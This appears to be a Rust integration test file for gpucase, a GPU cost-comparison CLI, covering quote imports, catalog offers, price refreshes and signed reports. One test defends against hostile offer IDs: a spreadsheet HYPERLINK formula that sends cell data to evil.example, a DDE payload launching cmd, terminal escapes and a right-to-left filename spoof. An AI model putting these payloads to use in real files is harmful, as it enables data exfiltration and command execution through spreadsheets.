    let header = "id,label,gpus,purchase,licences_per_year,power_kw,pue,kwh_price,colocation_per_month,support_per_year,operating_hours_per_month,operating_hour_rate,service_life_years,residual_value,source,currency,bandwidth_per_month,depreciation_years,resale_share_at_horizon";
    let row = "resold,Resold HGX H200,8,300000,36000,6.5,1.4,0.22,1500,15000,16,85,5,25000,Vendor quote,EUR,400,,0.40";
    let tco = quotes_into_example(dir.path(), &format!("{header}\n{row}\n"));
    let own = option_of(&tco, "resold");
    assert_eq!(decimal(&own["total_cost"]), "718287.60".parse().unwrap());
    let line = |kind: &str| {
        own["breakdown"]
            .as_array()
            .unwrap()
            .iter()
            .find(|i| i["item"] == kind)
            .map(|i| decimal(&i["amount"]))
    };
    assert_eq!(line("resale_value"), Some("-120000".parse().unwrap()));
    assert_eq!(line("residual_value"), None);
    assert_eq!(line("bandwidth"), Some("24000".parse().unwrap()));

    let said = quotes_refused(
        dir.path(),
        &format!("{header}\n{}\n", row.replace(",,0.40", ",3,0.40")),
    );
    assert!(
        said.contains("line 2, column resale_share_at_horizon")
            && said.contains("depreciation_years"),
        "{said}"
    );
}

/// Issue 35: the quote CSV's interconnect: `sxm` joins all the server's GPUs in one NVLink
/// domain unless `nvlink_domain_gpus` says otherwise, `pcie` none, `nvl` needs its domain;
/// the case then holds it as the interconnect a replica's requirement reads.
#[test]
fn quotes_from_csv_state_their_interconnect() {
    let dir = tempfile::tempdir().unwrap();
    let header = "id,label,gpus,purchase,licences_per_year,power_kw,pue,kwh_price,colocation_per_month,support_per_year,operating_hours_per_month,operating_hour_rate,service_life_years,residual_value,source,currency,interconnect,nvlink_domain_gpus";
    let common = "300000,36000,6.5,1.4,0.22,1500,15000,16,85,5,25000,Vendor quote,EUR";
    let rows = [
        format!("hgx,HGX H200,8,{common},sxm,"),
        format!("pcie,L40S server,8,{common},pcie,"),
        format!("nvl,H200 NVL server,8,{common},nvl,4"),
    ];
    quotes_into_example(
        dir.path(),
        &format!(
            "{header}
{}
",
            rows.join("\n")
        ),
    );
    let text = std::fs::read_to_string(dir.path().join("v2.gpucase")).unwrap();
    let v: serde_json::Value = serde_json::from_str(&text).unwrap();
    let case = v.get("case").unwrap_or(&v);
    let of = |id: &str| {
        case["own"]
            .as_array()
            .unwrap()
            .iter()
            .find(|q| q["id"] == id)
            .map(|q| q["interconnect"].clone())
            .unwrap()
    };
    assert_eq!(
        of("hgx"),
        serde_json::json!({"kind": "sxm", "domain_gpus": 8})
    );
    assert_eq!(
        of("pcie"),
        serde_json::json!({"kind": "pcie", "domain_gpus": 1})
    );
    assert_eq!(
        of("nvl"),
        serde_json::json!({"kind": "nvl", "domain_gpus": 4})
    );
    let said = quotes_refused(
        dir.path(),
        &format!(
            "{header}
nvl2,H200 NVL server,8,{common},nvl,
"
        ),
    );
    assert!(said.contains("line 2, column nvlink_domain_gpus"), "{said}");
}

/// The example imported into a store in `dir`, the quotes `csv` added, and `tco --json` of
/// the version that makes.
fn quotes_into_example(dir: &Path, csv: &str) -> serde_json::Value {
    let store = dir.join("cases.sqlite");
    let store = store.to_str().unwrap();
    let example = "examples/enterprise-assistant.gpucase";
    ok(&["case", "import", example, "--store", store]);
    let quotes = dir.join("quotes.csv");
    std::fs::write(&quotes, csv).unwrap();
    let quotes = quotes.to_str().unwrap();
    ok(&[
        "case",
        "add-quotes",
        "enterprise-assistant",
        quotes,
        "--store",
        store,
    ]);
    let file = dir.join("v2.gpucase");
    let file = file.to_str().unwrap();
    ok(&[
        "case",
        "export",
        "enterprise-assistant",
        "-o",
        file,
        "--store",
        store,
    ]);
    serde_json::from_str(&ok(&["tco", file, "--json"])).unwrap()
}

/// What `case add-quotes` says refusing the quotes `csv` for the case in `dir`'s store.
fn quotes_refused(dir: &Path, csv: &str) -> String {
    let store = dir.join("cases.sqlite");
    let bad = dir.join("refused.csv");
    std::fs::write(&bad, csv).unwrap();
    let (bad, store) = (bad.to_str().unwrap(), store.to_str().unwrap());
    let out = gpucase(&[
        "case",
        "add-quotes",
        "enterprise-assistant",
        bad,
        "--store",
        store,
    ]);
    assert!(!out.status.success());
    text(&out.stderr)
}

/// The option `id` of `tco --json`'s output.
fn option_of<'t>(tco: &'t serde_json::Value, id: &str) -> &'t serde_json::Value {
    tco["options"]
        .as_array()
        .unwrap()
        .iter()
        .find(|o| o["id"] == id)
        .expect("the quote is an option")
}

fn decimal(v: &serde_json::Value) -> rust_decimal::Decimal {
    v.as_str().unwrap().parse().unwrap()
}

/// `offers refresh --offline` to a signed report with no price typed: catalog offers become
/// the case's rent options, `tco --json` costs them at the offers' prices converted at the
/// case's rate, and the report names each offer and the age of its price.
#[test]
fn catalog_offers_become_options_costed_at_their_prices_through_to_a_signed_report() {
    use rust_decimal::Decimal;
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("store.sqlite");
    let store = store.to_str().unwrap();
    ok(&["offers", "refresh", "--offline", "--store", store]);
    ok(&[
        "case",
        "import",
        "examples/enterprise-assistant.gpucase",
        "--store",
        store,
    ]);
    let listed: Vec<serde_json::Value> =
        serde_json::from_str(&ok(&["offers", "list", "--json", "--store", store])).unwrap();
    let price = |key: &str| {
        let o = listed
            .iter()
            .find(|o| {
                format!(
                    "{}/{}",
                    o["provider"].as_str().unwrap(),
                    o["offer_id"].as_str().unwrap()
                ) == key
            })
            .unwrap_or_else(|| panic!("{key} is listed"));
        let (amount, currency) = o["price"]["amount"]
            .as_str()
            .unwrap()
            .split_once(' ')
            .unwrap();
        let upfront: Decimal = o["charges"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|c| c["unit"] == "one_off")
            .map(|c| {
                c["amount"]
                    .as_str()
                    .unwrap()
                    .split_once(' ')
                    .unwrap()
                    .0
                    .parse::<Decimal>()
                    .unwrap()
            })
            .sum();
        (
            amount.parse::<Decimal>().unwrap(),
            currency.to_owned(),
            upfront,
        )
    };
    let on_demand = "aws/KX3M8D5QF2PAJ6RT.JRTCKXETXF";
    let reserved = "aws/KX3M8D5QF2PAJ6RT.38NPMPTW36";
    let monthly = "hetzner/GEX130-FSN1";

    // An id the catalog does not have: one line naming it, nothing stored.
    let out = gpucase(&[
        "case",
        "add-offers",
        "enterprise-assistant",
        "vast/no-such-offer",
        "--store",
        store,
    ]);
    assert!(!out.status.success());
    assert!(
        text(&out.stderr).contains("vast/no-such-offer"),
        "{}",
        text(&out.stderr)
    );
    assert_eq!(
        ok(&["case", "history", "enterprise-assistant", "--store", store])
            .lines()
            .count(),
        1
    );

    let added = ok(&[
        "case",
        "add-offers",
        "enterprise-assistant",
        on_demand,
        reserved,
        monthly,
        "--store",
        store,
    ]);
    assert!(added.contains("version 2"), "{added}");
    let tco: serde_json::Value = serde_json::from_str(&ok(&[
        "tco",
        "enterprise-assistant",
        "--json",
        "--store",
        store,
    ]))
    .unwrap();
    let option = |id: &str| {
        tco["options"]
            .as_array()
            .unwrap()
            .iter()
            .find(|o| o["id"] == id)
            .unwrap_or_else(|| panic!("option {id} in {tco}"))
            .clone()
    };
    // The case's dated rate: USD to EUR 0.86 (examples/enterprise-assistant.gpucase).
    let usd_eur: Decimal = "0.86".parse().unwrap();
    let cents = |d: Decimal| d.round_dp(2);
    let (od, od_currency, _) = price(on_demand);
    assert_eq!(od_currency, "USD");
    for model in ["on_demand_always", "on_demand_stopped"] {
        let o = option(&format!("aws-p5.48xlarge-eu-stockholm/{model}"));
        assert_eq!(
            cents(decimal(&o["rate"]["amount"])),
            cents(od * usd_eur),
            "{o}"
        );
        assert_eq!(o["rate"]["per"], "instance_hour");
    }
    let (hourly, _, upfront) = price(reserved);
    let r = option("aws-p5.48xlarge-eu-stockholm/reserved");
    assert_eq!(
        cents(decimal(&r["rate"]["hourly"])),
        cents(hourly * usd_eur)
    );
    assert_eq!(
        cents(decimal(&r["rate"]["upfront"])),
        cents(upfront * usd_eur)
    );
    assert_eq!(r["rate"]["term_hours"], 26_280);
    let effective = (hourly + upfront / Decimal::from(26_280)) * usd_eur;
    assert_eq!(cents(decimal(&r["rate"]["amount"])), cents(effective));
    let (per_month, eur, _) = price(monthly);
    assert_eq!(eur, "EUR");
    let m = option("hetzner-gex130-fsn1/monthly_billed");
    assert_eq!(cents(decimal(&m["rate"]["amount"])), cents(per_month));
    assert_eq!(m["rate"]["per"], "instance_month");

    // Nothing changed in the catalog: refreshing the case's prices saves nothing.
    let refreshed = ok(&[
        "case",
        "refresh-prices",
        "enterprise-assistant",
        "--store",
        store,
    ]);
    assert!(refreshed.contains("no version saved"), "{refreshed}");

    // A signed report of the stored case names each offer with the age of its price.
    let d = dir.path();
    // A signing key and its certificate, issued at a fixed date (see crates/cli/tests/sign.rs).
    let out = Command::new("faketime")
        .args([
            "-f",
            "@2026-01-01 00:00:00",
            "openssl",
            "req",
            "-x509",
            "-newkey",
            "ec",
            "-pkeyopt",
            "ec_paramgen_curve:P-256",
            "-nodes",
            "-keyout",
            "key.pem",
            "-out",
            "cert.pem",
            "-days",
            "8000",
            "-subj",
            "/CN=Ada Analyst",
            "-addext",
            "keyUsage=critical,digitalSignature",
        ])
        .current_dir(d)
        .output()
        .expect("faketime and openssl run");
    assert!(out.status.success(), "{}", text(&out.stderr));
    let pdf = d.join("memo.pdf");
    ok(&[
        "report",
        "enterprise-assistant",
        "--store",
        store,
        "-o",
        pdf.to_str().unwrap(),
        "--date",
        "2026-12-01",
        "--key",
        d.join("key.pem").to_str().unwrap(),
        "--cert",
        d.join("cert.pem").to_str().unwrap(),
        // Every eligible option in the body, so that every offer's inputs are in the
        // appendix (by default it compares the five cheapest).
        "--compare",
        "26",
    ]);
    let verified = gpucase(&[
        "verify",
        pdf.to_str().unwrap(),
        "--trust",
        d.join("cert.pem").to_str().unwrap(),
    ]);
    assert!(verified.status.success(), "{}", text(&verified.stdout));
    let extracted = Command::new("pdftotext")
        .arg(&pdf)
        .arg("-")
        .output()
        .expect("pdftotext runs");
    let words = text(&extracted.stdout)
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ");
    // Fetched 2026-11-20, reported 2026-12-01: 11 days old.
    // The appendix sets the rent offers side by side: a long id wraps after one of its
    // separators, which pdftotext reads as a space.
    let unwrapped: String = words.split_whitespace().collect();
    for key in [on_demand, reserved, monthly] {
        assert!(unwrapped.contains(&format!("{key}:")), "{key} in {words}");
    }
    assert!(
        words.contains("read 20 November 2026 (11 days old)"),
        "{words}"
    );
    assert!(words.contains("(assumed: no offer states it)"), "{words}");
}

/// Issue 36, item 1: an offer's price lives once, in the case's shortlist; a rent option
/// names the offer by key, and its pricing model holds what the case costs. Two catalog
/// snapshots: the seller raises the GTX 1060 from 49.00 to 55.00 EUR a month and stops
/// selling the perf3 plan. `refresh-prices` brings 55.00 into the shortlist and the pricing
/// model, so that the memo prints it, and marks perf3 withdrawn, keeping its last figures
/// (before, the shortlist kept 49.00 beside the option's copy, and the appendix printed it).
#[test]
fn refreshed_prices_reach_the_shortlist_the_option_and_the_memo_and_a_withdrawn_offer_keeps_its_last()
 {
    let dir = tempfile::tempdir().unwrap();
    let plugins = dir.path().join("plugins");
    copy_plugin(&plugins, "feed");
    let store = dir.path().join("cases.sqlite");
    let (store, plugins_dir) = (store.to_str().unwrap(), plugins.to_str().unwrap());
    let refresh = || {
        ok(&[
            "offers",
            "refresh",
            "--offline",
            "--dir",
            plugins_dir,
            "--store",
            store,
        ])
    };
    refresh();
    let example = root().join("examples/enterprise-assistant.gpucase");
    ok(&[
        "case",
        "import",
        example.to_str().unwrap(),
        "--store",
        store,
    ]);
    ok(&[
        "case",
        "add-offers",
        "enterprise-assistant",
        "feed/gtx1060",
        "feed/igpu-perf3",
        "--store",
        store,
    ]);
    // The second snapshot.
    let feed = plugins.join("feed/fixtures/gpucase-offer-feed.json");
    let mut body: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&feed).unwrap()).unwrap();
    let offers = body["offers"].as_array_mut().unwrap();
    offers.retain(|o| o["id"] != "igpu-perf3");
    for o in offers.iter_mut() {
        if o["id"] == "gtx1060" {
            o["price"]["amount"] = "55.00".into();
        }
    }
    std::fs::write(&feed, body.to_string()).unwrap();
    refresh();
    let said = ok(&[
        "case",
        "refresh-prices",
        "enterprise-assistant",
        "--store",
        store,
    ]);
    assert!(said.contains("feed/gtx1060"), "{said}");
    assert!(said.contains("feed/igpu-perf3"), "{said}");

    let case = exported("enterprise-assistant", store, dir.path());
    let shortlisted = |id: &str| {
        case["shortlist"]
            .as_array()
            .unwrap()
            .iter()
            .find(|o| o["offer_id"] == id)
            .unwrap_or_else(|| panic!("{id} in the shortlist"))
            .clone()
    };
    let option = |id: &str| {
        case["rent"]
            .as_array()
            .unwrap()
            .iter()
            .find(|r| r["offers"][0] == format!("feed/{id}").as_str())
            .unwrap_or_else(|| panic!("an option of {id}"))
            .clone()
    };
    // The GTX 1060 at 55.00 where the case holds its price (the shortlist; the option
    // names it by key) and in the pricing model costed at it.
    assert_eq!(shortlisted("gtx1060")["price"]["amount"], "55.00 EUR");
    let gtx = option("gtx1060");
    assert_eq!(gtx["offers"], serde_json::json!(["feed/gtx1060"]), "{gtx}");
    assert_eq!(
        gtx["pricing"][0]["monthly_billed"]["per_instance_month"], "55.00 EUR",
        "{gtx}"
    );
    // perf3 withdrawn, at its last price, 29.90, in both.
    assert_eq!(shortlisted("igpu-perf3")["price"]["amount"], "29.90 EUR");
    assert_eq!(shortlisted("igpu-perf3")["withdrawn"], true);
    let perf3 = option("igpu-perf3");
    assert_eq!(
        perf3["pricing"][0]["monthly_billed"]["per_instance_month"], "29.90 EUR",
        "{perf3}"
    );

    // The memo prints the new price.
    let pdf = dir.path().join("memo.pdf");
    ok(&[
        "report",
        "enterprise-assistant",
        "-o",
        pdf.to_str().unwrap(),
        "--date",
        "2026-12-01",
        "--compare",
        "26",
        "--store",
        store,
    ]);
    let extracted = Command::new("pdftotext")
        .arg(&pdf)
        .arg("-")
        .output()
        .expect("pdftotext runs");
    let words = text(&extracted.stdout)
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ");
    assert!(words.contains("€55.00"), "{words}");
    assert!(!words.contains("€49.00"), "{words}");
}

/// Issue 36, item 1, at the size of a real shortlist: the 30-option triage example, whose
/// rent options name 16 offers by key, against the offline catalog it was built from (every
/// bundled plugin's recorded responses, scripts/shortlist-example.sh): every key finds its
/// offer at the shortlist's price, so nothing changes, nothing is withdrawn and no version
/// is saved.
#[test]
fn a_thirty_option_case_refreshed_against_its_own_catalog_changes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("cases.sqlite");
    let store = store.to_str().unwrap();
    let plugins = root().join("plugins");
    ok(&[
        "offers",
        "refresh",
        "--offline",
        "--dir",
        plugins.to_str().unwrap(),
        "--store",
        store,
    ]);
    let example = root().join("examples/triage-shortlist.gpucase");
    ok(&[
        "case",
        "import",
        example.to_str().unwrap(),
        "--store",
        store,
    ]);
    let said = ok(&[
        "case",
        "refresh-prices",
        "triage-shortlist",
        "--store",
        store,
    ]);
    assert!(
        said.contains("every price is as in the catalog; no version saved"),
        "{said}"
    );
    assert!(!said.contains("withdrawn"), "{said}");
}

/// Issue 16, item 9: an offer id `=HYPERLINK(...)` was written unescaped into `offers list
/// --csv` (a spreadsheet runs it), and new lines, tabs, ANSI escapes and right-to-left
/// overrides in an id broke the `offers list` table. The CSV neutralises a formula with a
/// leading `'` and the table writes controls as visible escapes.
#[test]
fn hostile_offer_text_is_neither_a_formula_nor_a_terminal_control() {
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("catalog.sqlite");
    let store = store.to_str().unwrap();
    let csv = dir.path().join("hostile.csv");
    // The columns of docs/manual-csv.md; each id as a hostile quote-by-mail might carry it.
    let ids = [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1-2",
        "-2+3",
        "red\u{1b}[31m\u{1b}[2Jcleared",
        "two\nlines\tand tab",
        "abc\u{202e}fdp.exe",
    ];
    let mut text_csv =
        String::from("offer_id,source,quoted_on,gpu,gpus,price,period,pricing_model\n");
    for id in ids {
        text_csv.push_str(&format!(
            "\"{}\",https://quotes.example/,2026-11-20,H100,1,2.50 EUR,hour,on_demand\n",
            id.replace('"', "\"\"")
        ));
    }
    std::fs::write(&csv, text_csv).unwrap();
    let imported = gpucase(&["offers", "import", csv.to_str().unwrap(), "--store", store]);
    assert!(imported.status.success(), "{}", text(&imported.stderr));

    let listed = gpucase(&["offers", "list", "--csv", "--store", store]);
    assert!(listed.status.success(), "{}", text(&listed.stderr));
    let listed = text(&listed.stdout);
    // The line that continues the quoted id with a new line starts with no provider.
    for id in listed
        .lines()
        .skip(1)
        .filter_map(|l| l.strip_prefix("manual,"))
    {
        for start in ['=', '+', '-', '@'] {
            assert!(!id.starts_with(start), "{id}");
            assert!(!id.starts_with(&format!("\"{start}")), "{id}");
        }
    }
    assert!(
        listed.contains("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"open\"\")\","),
        "{listed}"
    );
    assert!(
        listed.contains(",'@SUM(1+1)*cmd|' /C calc'!A0,"),
        "{listed}"
    );
    assert!(listed.contains(",'+1-2,"), "{listed}");
    assert!(listed.contains(",'-2+3,"), "{listed}");
    // The id with a new line is one quoted field: the header, seven offers, one extra line.
    assert_eq!(listed.lines().count(), 1 + ids.len() + 1, "{listed}");

    let table = gpucase(&["offers", "list", "--store", store]);
    assert!(table.status.success(), "{}", text(&table.stderr));
    let table = text(&table.stdout);
    assert!(!table.contains('\u{1b}'), "{table:?}");
    assert!(!table.contains('\u{202e}'), "{table:?}");
    assert!(!table.contains('\t'), "{table:?}");
    assert!(table.contains("red\\u{1b}[31m"), "{table}");
    assert!(table.contains("two\\nlines\\tand tab"), "{table}");
    assert!(table.contains("abc\\u{202e}fdp.exe"), "{table}");
    // One row per offer and the count line.
    assert_eq!(table.lines().count(), ids.len() + 1, "{table}");
}

/// Issue 17, from the catalog to the comparison with nothing typed twice: an H200 and an
/// H100 instance added from the offline catalog carry their GPU memory into the case, and
/// with a replica of 200 GB (2 of the example's H200) the H100 instance is costed for the
/// 4 GPUs a replica needs there: twice the instance-hours for the same productive work.
#[test]
fn catalog_offers_compare_on_replicas_served_when_the_replica_memory_is_stated() {
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("store.sqlite");
    let store = store.to_str().unwrap();
    ok(&["offers", "refresh", "--offline", "--store", store]);
    ok(&[
        "case",
        "import",
        "examples/enterprise-assistant.gpucase",
        "--store",
        store,
    ]);
    let h200 = "gcp/a3-ultragpu-8g@europe-west4/on_demand";
    let h100 = "gcp/a3-highgpu-8g@europe-west4/on_demand";
    ok(&[
        "case",
        "add-offers",
        "enterprise-assistant",
        h200,
        "--store",
        store,
    ]);
    ok(&[
        "case",
        "add-offers",
        "enterprise-assistant",
        h100,
        "--store",
        store,
    ]);
    let tco = |extra: &[&str]| -> serde_json::Value {
        let mut args = vec!["tco", "enterprise-assistant", "--json", "--store", store];
        args.extend_from_slice(extra);
        serde_json::from_str(&ok(&args)).unwrap()
    };
    let always = |tco: &serde_json::Value, gpu: &str| -> serde_json::Value {
        tco["options"]
            .as_array()
            .unwrap()
            .iter()
            .find(|o| o["kind"] == "on_demand_always" && o["label"].as_str().unwrap().contains(gpu))
            .unwrap_or_else(|| panic!("an always-on {gpu} option in {tco}"))
            .clone()
    };
    let before = tco(&[]);
    // Without a replica's memory both 8-GPU instances bill the example's 8 GPUs.
    assert_eq!(
        decimal(&always(&before, "H100")["billed_gpu_hours"]),
        5840.into()
    );
    ok(&[
        "case",
        "require",
        "enterprise-assistant",
        "--replica-gpus",
        "2",
        "--replica-memory",
        "200",
        "--store",
        store,
    ]);
    let after = tco(&[]);
    let (h200, h100) = (always(&after, "H200"), always(&after, "H100"));
    assert_eq!(h200["replica"]["option_gpus"], 2);
    assert_eq!(h100["replica"]["option_gpus"], 4);
    assert_eq!(decimal(&h200["billed_gpu_hours"]), 5840.into());
    assert_eq!(decimal(&h100["billed_gpu_hours"]), 11680.into());
    // The same work divides both: the example's 2,688 productive GPU-hours a month.
    for o in [&h200, &h100] {
        assert_eq!(decimal(&o["productive_gpu_hours"]), 2688.into(), "{o}");
    }
    // The hand-typed options of the example state no GPU memory: not eligible, and said.
    let typed = after["options"]
        .as_array()
        .unwrap()
        .iter()
        .find(|o| o["id"] == "aws-p5e/on_demand_always")
        .unwrap();
    assert_eq!(typed["replica"]["memory_known"], false);
    assert!(
        typed["eligibility"]["excluded_by"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["kind"] == "replica_memory_unknown"),
        "{typed}"
    );
    let table = ok(&[
        "--lang",
        "en",
        "tco",
        "enterprise-assistant",
        "--store",
        store,
    ]);
    assert!(
        table.contains("one replica needs 200 GB of GPU memory and runs on 2 GPUs"),
        "{table}"
    );
}

/// Issue 19: one row per product and place with its pricing models beneath (the user knows
/// `p5.48xlarge`, not a SKU hash per price), a product sold only under a commitment said so
/// (AWS sells p5e.48xlarge as a reservation or block only), and the stock a provider reports
/// beside the offer, with its date.
#[test]
fn the_list_groups_pricing_models_under_their_product_and_says_what_is_free() {
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("catalog.sqlite");
    let store = store.to_str().unwrap();
    ok(&["offers", "refresh", "--offline", "--store", store]);
    let listed = ok(&["--lang", "en", "offers", "list", "--store", store]);
    let lines: Vec<&str> = listed.lines().collect();
    let head = |product: &str, place: &str| {
        lines
            .iter()
            .position(|l| {
                !l.starts_with(' ')
                    && l.split_whitespace().nth(1) == Some(product)
                    && l.contains(place)
            })
            .unwrap_or_else(|| panic!("no row of {product} in {place}:\n{listed}"))
    };
    // p5.48xlarge in N. Virginia: one row, its on-demand and six reservation prices beneath.
    let at = head("p5.48xlarge", "US East (N. Virginia)");
    let beneath: Vec<&str> = lines[at + 1..]
        .iter()
        .take_while(|l| l.starts_with("    "))
        .copied()
        .collect();
    assert!(
        beneath
            .iter()
            .any(|l| l.contains("3D4V8UAYEMB38GU2.JRTCKXETXF") && l.contains("on demand")),
        "{beneath:?}"
    );
    assert_eq!(
        beneath
            .iter()
            .filter(|l| l.contains("3D4V8UAYEMB38GU2."))
            .count(),
        7,
        "{beneath:?}"
    );
    assert!(!lines[at].contains("commitment"), "{}", lines[at]);
    // p5e.48xlarge has no on-demand price: its row says it is sold only so.
    let p5e = head("p5e.48xlarge", "US East (Ohio)");
    assert!(
        lines[p5e].contains("sold only under a commitment"),
        "{}",
        lines[p5e]
    );
    // Stock as RunPod words it, and Lambda's regions with capacity, dated by the reading.
    assert!(
        listed.contains("stock “High” on 20 November 2026"),
        "{listed}"
    );
    assert!(listed.contains("available on 20 November 2026"), "{listed}");
    // The JSON keeps one entry per offer, with its product and availability.
    let json: Vec<serde_json::Value> =
        serde_json::from_str(&ok(&["offers", "list", "--json", "--store", store])).unwrap();
    let sku = json
        .iter()
        .find(|o| o["offer_id"] == "3D4V8UAYEMB38GU2.JRTCKXETXF")
        .unwrap();
    assert_eq!(sku["product"], "p5.48xlarge");
    assert!(
        json.iter()
            .any(|o| o["provider"] == "hyperstack" && o["availability"]["available"] == false),
        "Hyperstack's flavor out of stock is said so"
    );
}

/// Issue 19, faults of a real provider's format: Azure's price API answering 429, a
/// NextPageLink that leads back to itself without end, and a page whose items moved under
/// another key. Each is a clear per-plugin outcome naming the URL or the field, the
/// plugin's last snapshot is kept, and the other plugin's offers are refreshed as usual.
#[test]
fn a_provider_that_throttles_pages_without_end_or_changes_its_format_keeps_its_snapshot() {
    let dir = tempfile::tempdir().unwrap();
    let plugins = dir.path().join("plugins");
    let azure = copy_plugin(&plugins, "azure");
    copy_plugin(&plugins, "hetzner");
    let store = dir.path().join("catalog.sqlite");
    let (store, plugins_dir) = (store.to_str().unwrap(), plugins.to_str().unwrap());
    let refresh = || {
        gpucase(&[
            "--lang",
            "en",
            "offers",
            "refresh",
            "--offline",
            "--dir",
            plugins_dir,
            "--store",
            store,
        ])
    };
    let count = |provider: &str| {
        let out = gpucase(&["offers", "list", "--json", "--store", store]);
        serde_json::from_slice::<Vec<serde_json::Value>>(&out.stdout)
            .unwrap()
            .iter()
            .filter(|o| o["provider"] == provider)
            .count()
    };
    assert!(refresh().status.success());
    let (azure_offers, hetzner_offers) = (count("azure"), count("hetzner"));
    assert!(azure_offers > 0 && hetzner_offers > 0);
    let index = azure.join("fixtures/index.toml");
    let recorded = std::fs::read_to_string(&index).unwrap();
    let page1 = azure.join("fixtures/vm-page1.json");
    let first_page = std::fs::read_to_string(&page1).unwrap();
    let fails_with = |what: &str, expected: &[&str]| {
        let out = refresh();
        assert!(!out.status.success(), "{what}");
        let printed = text(&out.stdout);
        assert!(
            printed.contains("azure: failed, last snapshot kept"),
            "{what}: {printed}"
        );
        for part in expected {
            assert!(printed.contains(part), "{what}: {part:?} in {printed}");
        }
        assert!(printed.contains("hetzner: "), "{what}: {printed}");
        assert_eq!(count("azure"), azure_offers, "{what}");
        assert_eq!(count("hetzner"), hetzner_offers, "{what}");
    };

    // Throttled: the first VM page answers 429.
    std::fs::write(&index, recorded.replacen("status = 200", "status = 429", 1)).unwrap();
    fails_with("429", &["HTTP 429", "https://prices.azure.com/"]);

    // Paging without end: page 1's NextPageLink leads to a page that is page 1 again, for
    // ever; the plugin's page limit stops it, never a hang.
    std::fs::write(&index, &recorded).unwrap();
    assert!(first_page.contains("$skip=1000"), "page 1 links to page 2");
    let looping = recorded.replacen("file = \"vm-page2.json\"", "file = \"vm-page1.json\"", 1);
    std::fs::write(&index, looping).unwrap();
    fails_with("endless paging", &["more than 50 pages"]);

    // The format changed: the items moved under another key.
    std::fs::write(&index, &recorded).unwrap();
    std::fs::write(&page1, first_page.replacen("\"Items\"", "\"Results\"", 1)).unwrap();
    fails_with("a changed format", &["Items"]);
}

/// Issue 19, a second source: a plugin that restates another provider's prices (as a public
/// catalog such as SkyPilot's does, `restates: "aws"`) is checked against that provider's
/// offer of the same product, place and pricing model. Where it gives the same price the
/// list says so; where it disagrees the list shows its price and when it was read. Its
/// own offers are no offers to buy: listed only with --second-sources.
#[test]
fn a_second_source_confirms_or_contradicts_a_provider_s_price() {
    let dir = tempfile::tempdir().unwrap();
    let plugins = dir.path().join("plugins");
    copy_plugin(&plugins, "aws");
    let mirror = plugins.join("mirror");
    std::fs::create_dir_all(mirror.join("fixtures")).unwrap();
    std::fs::write(
        mirror.join("plugin.toml"),
        r#"[plugin]
id = "mirror"
name = "A public catalog restating AWS prices (test)"
version = "0.1.0"
api = 1

[provider]
legal_name = "Test catalog"
website = "https://catalog.example.org"
country = "US"

[capabilities]
fetch = ["https://catalog.example.org/"]
secrets = []

[settings]
url = "https://catalog.example.org/aws.json"
"#,
    )
    .unwrap();
    std::fs::write(
        mirror.join("main.rhai"),
        r#"fn offers(ctx) {
    let r = http_get(ctx.settings.url);
    if r.status != 200 { throw `${ctx.settings.url}: HTTP ${r.status}`; }
    parse_json(r.body)
}
"#,
    )
    .unwrap();
    std::fs::write(
        mirror.join("fixtures/index.toml"),
        r#"# Where the shape comes from: gpucase's plugin offer maps (crates/plugins), written out
recorded = "2026-11-21"

[[response]]
method = "GET"
url = "https://catalog.example.org/aws.json"
status = 200
content_type = "application/json"
file = "aws.json"
"#,
    )
    .unwrap();
    let restated = |id: &str, region: &str, price: &str| {
        serde_json::json!({
            "offer_id": id, "product": "p5.48xlarge", "restates": "aws",
            "source_url": "https://catalog.example.org/aws.json",
            "gpu": {"raw_name": "H100", "count": 8, "vram_gb": "80"},
            "allocation": {"kind": "unknown", "reason": "the catalog restates prices only"},
            "isolation": {"kind": "unknown", "reason": "the catalog restates prices only"},
            "host": {"gpus": null, "cpu_cores": null, "your_vcpus": null, "your_ram_gb": null},
            "location": {"country": null, "region": region, "city": null, "datacenter": null},
            "host_status": "unknown", "interconnect": null, "performance_tier": null,
            "price": {"amount": price, "period": "hour", "model": "on_demand", "term_months": null},
            "charges": []
        })
    };
    let list = serde_json::json!([
        restated(
            "p5.48xlarge@us-east-1",
            "US East (N. Virginia)",
            "55.04 USD"
        ),
        restated("p5.48xlarge@eu-north-1", "EU (Stockholm)", "56.10 USD"),
    ]);
    std::fs::write(mirror.join("fixtures/aws.json"), list.to_string()).unwrap();
    let store = dir.path().join("catalog.sqlite");
    let (store, plugins_dir) = (store.to_str().unwrap(), plugins.to_str().unwrap());
    ok(&[
        "offers",
        "refresh",
        "--offline",
        "--dir",
        plugins_dir,
        "--store",
        store,
    ]);
    let listed = ok(&["--lang", "en", "offers", "list", "--store", store]);
    let line = |id: &str| {
        listed
            .lines()
            .find(|l| l.contains(id))
            .unwrap_or_else(|| panic!("{id} in {listed}"))
            .to_owned()
    };
    // us-east-1's on-demand price, 55.04 USD, is the catalog's too.
    assert!(
        line("3D4V8UAYEMB38GU2.JRTCKXETXF").contains("mirror gives the same price"),
        "{listed}"
    );
    // eu-north-1's is 57.79 USD at AWS and 56.10 USD in the catalog read a day later.
    let stockholm = line("KX3M8D5QF2PAJ6RT.JRTCKXETXF");
    assert!(
        stockholm.contains("≠ mirror: US$56.10") && stockholm.contains("21 November 2026"),
        "{stockholm}"
    );
    // A reservation's price has no second source: nothing is said.
    assert!(!line("KX3M8D5QF2PAJ6RT.4NA7Y494T4").contains("mirror"));
    // The restating offers are not offers to buy.
    assert!(!listed.contains("p5.48xlarge@us-east-1"), "{listed}");
    let second = ok(&[
        "--lang",
        "en",
        "offers",
        "list",
        "--second-sources",
        "--store",
        store,
    ]);
    assert!(
        second.contains("p5.48xlarge@eu-north-1") && second.contains("restates p5.48xlarge (aws)"),
        "{second}"
    );
}
